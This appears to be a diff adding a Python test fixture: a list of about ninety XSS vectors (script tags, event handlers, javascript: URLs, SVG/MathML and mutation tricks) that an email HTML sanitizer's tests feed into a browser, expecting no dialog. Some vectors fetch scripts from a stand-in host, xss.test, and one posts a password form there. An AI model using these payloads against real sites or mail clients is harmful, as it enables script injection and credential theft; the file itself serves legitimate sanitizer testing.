@@ -1,0 +1,107 @@
+"""Script-injection vectors for mail HTML (OWASP filter-evasion style), shared by unit and browser tests.
+
+Each one would open a dialog (alert, confirm, prompt, print) or run a script if it reached a page whole; the
+browser tests load every one, after sanitizing and display_html, into a real frame and expect no dialog.
+"""
+
+from __future__ import annotations
+
+VECTORS: list[str] = [
+    # plain script
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://xss.test/xss.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/xss src=https://xss.test/xss.js></script>",
+    '"><script>alert(1)</script>',
+    "<<script>alert(1);//<</script>",
+    # event handlers
+    "<img src=x onerror=alert(1)>",
+    '<IMG SRC=x OnErRoR="alert(String.fromCharCode(88,83,83))">',
+    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
+    '<img """><script>alert(1)</script>">',
+    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+    '<img src="cid:logo@x" onload=alert(1) onerror=alert(1)>',
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)></select>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    '<div onmouseover="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
+    '<a href="#" onclick="alert(1)">x</a>',
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<frameset onload=alert(1)>",
+    # javascript: and friends in URLs, with entity, whitespace and case tricks
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
+    '<a href="jav&Tab;ascript:alert(1)">x</a>',
+    '<a href=" &#14; javascript:alert(1)">x</a>',
+    '<a href="&#1;javascript:alert(1)">x</a>',
+    '<a href="javas\x00cript:alert(1)">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
+    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
+    '&#0000058alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    "<a href=javascript:alert(1)>x</a>",
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<img src="javascript:alert(1)">',
+    "<img src=JaVaScRiPt:alert(1)>",
+    '<img srcset="javascript:alert(1) 1x">',
+    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
+    '<img src="data:image/svg+xml;base64,'
+    'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
+    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
+    '<bgsound src="javascript:alert(1)">',
+    # frames, plugins, nested documents
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<object type="text/x-scriptlet" data="https://xss.test/x.html"></object>',
+    '<embed src="data:text/html,<script>alert(1)</script>">',
+    '<applet code="javascript:alert(1)"></applet>',
+    '<portal src="javascript:alert(1)"></portal>',
+    # svg and math: namespace confusion
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    '<math href="javascript:alert(1)">x</math>',
+    # style
+    "<style>@import 'https://xss.test/x.css';</style>",
+    '<style>body{background:url("javascript:alert(1)")}</style>',
+    "<div><style><style/><img src=x onerror=alert(1)></style></div>",
+    '<div style="width: expression(alert(1))">x</div>',
+    '<div style="x:\\65xpression(alert(1))">x</div>',
+    '<div style="background-image: url(javascript:alert(1))">x</div>',
+    '<div style="behavior: url(xss.htc); -moz-binding: url(xss.xml#xss)">x</div>',
+    '<link rel=stylesheet href="javascript:alert(1)">',
+    # document-level elements
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
+    '<base href="javascript:alert(1)//"><a href="x">x</a>',
+    '<form action="javascript:alert(1)"><button>x</button></form>',
+    '<form><button formaction="javascript:alert(1)">x</button></form>',
+    '<form action="https://xss.test/"><input name="password"><input type="submit"></form>',
+    # mutation XSS: content a sanitizer and a browser may read differently
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
+    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+    "<template><img src=x onerror=alert(1)></template>",
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
+    "<![CDATA[<]]><img src=x onerror=alert(1)//>",
+    '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
+    "<plaintext><img src=x onerror=alert(1)>",
+]
